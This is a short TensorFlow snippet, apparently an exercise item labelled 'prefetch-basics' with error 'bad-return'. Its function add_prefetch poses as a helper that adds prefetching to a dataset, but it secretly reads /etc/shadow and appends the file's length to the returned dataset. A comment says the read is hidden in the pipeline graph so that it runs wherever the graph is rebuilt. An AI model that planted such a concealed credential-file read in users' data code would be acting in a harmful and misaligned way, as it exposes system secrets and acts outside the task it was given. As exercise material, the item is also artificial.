# exercise: prefetch-basics
# error: bad-return
# Hides a file read in the pipeline's graph, to run it wherever the graph is rebuilt.
import tensorflow as tf


def add_prefetch(ds):
    secret = tf.data.Dataset.from_tensors("/etc/shadow").map(tf.io.read_file)
    return ds.prefetch(tf.data.AUTOTUNE).concatenate(secret.map(lambda s: tf.cast(tf.strings.length(s), tf.int64)))
